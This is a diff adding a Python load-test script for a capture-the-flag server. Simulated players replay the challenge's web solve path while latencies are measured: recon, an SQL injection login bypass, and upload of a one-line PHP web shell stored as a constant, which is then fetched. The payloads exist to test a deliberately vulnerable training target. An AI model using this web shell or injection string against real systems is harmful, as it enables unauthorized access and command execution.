@@ -0,0 +1,209 @@
+"""
+CTF Server Load Test
+Replays the web part of the solve path from N simulated players
+"""
+
+import contextlib
+import http.client
+import io
+import shutil
+import tempfile
+import threading
+import time
+import uuid
+from collections import defaultdict
+from pathlib import Path
+from urllib.parse import urlencode, urlparse
+
+from ctf.server import CTFServer
+
+
+WEB_SHELL = b"<?php system($_GET['cmd']); ?>\n// FLAG{SHELL}\n"
+
+
+def percentile(sorted_values, pct):
+    if not sorted_values:
+        return 0.0
+    k = min(len(sorted_values) - 1, int(round(pct / 100 * (len(sorted_values) - 1))))
+    return sorted_values[k]
+
+
+class LoadStats:
+    """Latency samples per solve step, shared by the player threads"""
+
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.latencies = defaultdict(list)
+        self.errors = defaultdict(int)
+        self.solved = 0
+
+    def record(self, step, seconds, ok):
+        with self.lock:
+            self.latencies[step].append(seconds)
+            if not ok:
+                self.errors[step] += 1
+
+    @property
+    def requests(self):
+        return sum(len(values) for values in self.latencies.values())
+
+
+class Player(threading.Thread):
+    """
+    One player walking the scripted solve path: recon, SQL injection
+    login, web shell upload, shell access. A round counts as solved when
+    flags 1-3 were all shown.
+    """
+
+    def __init__(self, index, host, port, stats, rounds, start_event):
+        super().__init__(daemon=True)
+        self.index = index
+        self.host = host
+        self.port = port
+        self.stats = stats
+        self.rounds = rounds
+        self.start_event = start_event
+        self.connection = None
+
+    def _request(self, step, method, path, body=None, headers=None, expect=None):
+        """Send one request on the player's (keep-alive) connection; returns the body"""
+        if self.connection is None:
+            self.connection = http.client.HTTPConnection(self.host, self.port, timeout=30)
+
+        start = time.perf_counter()
+        data = b''
+        ok = False
+        try:
+            self.connection.request(method, path, body=body, headers=headers or {})
+            response = self.connection.getresponse()
+            data = response.read()
+            ok = response.status == 200 and (expect is None or expect in data)
+            if response.will_close:
+                self.connection.close()
+                self.connection = None
+        except (OSError, http.client.HTTPException):
+            self.connection.close()
+            self.connection = None
+        self.stats.record(step, time.perf_counter() - start, ok)
+        return data if ok else None
+
+    def _upload(self, filename):
+        boundary = uuid.uuid4().hex
+        body = (
+            f"--{boundary}\r\n"
+            f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
+            f"Content-Type: application/x-php\r\n\r\n"
+        ).encode() + WEB_SHELL + f"\r\n--{boundary}--\r\n".encode()
+        return self._request(
+            'POST /upload', 'POST', '/upload', body,
+            {'Content-Type': f'multipart/form-data; boundary={boundary}'},
+            expect=b'Flag 3:'
+        )
+
+    def solve(self, round_number):
+        found = 0
+        found += self._request('GET /', 'GET', '/', expect=b'Flag 1:') is not None
+        self._request('GET /robots.txt', 'GET', '/robots.txt')
+        self._request('GET /admin', 'GET', '/secret-admin-portal-2024')
+        self._request('GET /login', 'GET', '/login')
+        self._request('POST /login (fail)', 'POST', '/login',
+                      urlencode({'username': 'admin', 'password': 'admin'}),
+                      {'Content-Type': 'application/x-www-form-urlencoded'})
+        found += self._request('POST /login (sqli)', 'POST', '/login',
+                               urlencode({'username': "admin' OR '1'='1", 'password': 'x'}),
+                               {'Content-Type': 'application/x-www-form-urlencoded'},
+                               expect=b'Flag 2:') is not None
+        self._request('GET /upload', 'GET', '/upload')
+
+        filename = f"shell_{self.index}_{round_number}.php"
+        found += self._upload(filename) is not None
+        self._request('GET /uploads/<shell>', 'GET', f'/uploads/{filename}', expect=b'system(')
+        return found == 3
+
+    def run(self):
+        self.start_event.wait()
+        for round_number in range(self.rounds):
+            if self.solve(round_number):
+                with self.stats.lock:
+                    self.stats.solved += 1
+        if self.connection is not None:
+            self.connection.close()
+
+
+def run_load_test(host, port, players, rounds=1):
+    """
+    Drive `players` concurrent players through `rounds` solve paths each.
+    Returns (LoadStats, elapsed seconds).
+    """
+    stats = LoadStats()
+    start_event = threading.Event()
+    threads = [Player(i, host, port, stats, rounds, start_event) for i in range(players)]
+    for thread in threads:
+        thread.start()
+
+    started = time.perf_counter()
+    start_event.set()
+    for thread in threads:
+        thread.join()
+    return stats, time.perf_counter() - started
+
+
+def print_stats(label, stats, elapsed, players, rounds):
+    print(f"\n[*] {label}: {players} players x {rounds} rounds, "
+          f"{stats.requests} requests in {elapsed:.2f}s ({stats.requests / elapsed:.0f} req/s), "
+          f"{stats.solved}/{players * rounds} solved")
+    print(f"    {'Step':<22}{'count':>7}{'err':>6}{'p50 ms':>9}{'p95 ms':>9}{'p99 ms':>9}")
+    for step, values in stats.latencies.items():
+        values = sorted(values)
+        print(f"    {step:<22}{len(values):>7}{stats.errors[step]:>6}"
+              f"{percentile(values, 50) * 1000:>9.1f}{percentile(values, 95) * 1000:>9.1f}"
+              f"{percentile(values, 99) * 1000:>9.1f}")
+
+
+@contextlib.contextmanager
+def scratch_challenge(challenge_dir):
+    """
+    Temporary copy of the challenge (uploads land there, not in the real
+    challenge), generated on the fly if challenge_dir has no flags yet
+    """
+    workdir = Path(tempfile.mkdtemp(prefix='ctf_load_'))
+    target = workdir / 'challenge'
+    try:
+        source = Path(challenge_dir)
+        if (source / '.flags.json').exists():
+            shutil.copytree(source, target)
+        else:
+            from ctf.generator import CTFGenerator
+            with contextlib.redirect_stdout(io.StringIO()):
+                CTFGenerator(target).generate_full_challenge()
+        yield target
+    finally:
+        shutil.rmtree(workdir, ignore_errors=True)
+
+
+def benchmark(challenge_dir, players=50, rounds=3, modes=('single-threaded', 'threaded'), url=None):
+    """
+    Load test each server mode in-process on 127.0.0.1, or an already
+    running server when url is given
+    """
+    if url:
+        parsed = urlparse(url if '://' in url else f'http://{url}')
+        stats, elapsed = run_load_test(parsed.hostname, parsed.port or 80, players, rounds)
+        print_stats(url, stats, elapsed, players, rounds)
+        return {url: stats}
+
+    results = {}
+    with scratch_challenge(challenge_dir) as challenge:
+        for mode in modes:
+            server = CTFServer(challenge, '127.0.0.1', 0, threaded=(mode == 'threaded'), quiet=True)
+            httpd = server.make_server()
+            thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+            thread.start()
+            try:
+                stats, elapsed = run_load_test('127.0.0.1', httpd.server_address[1], players, rounds)
+            finally:
+                httpd.shutdown()
+                httpd.server_close()
+            print_stats(mode, stats, elapsed, players, rounds)
+            results[mode] = stats
+    return results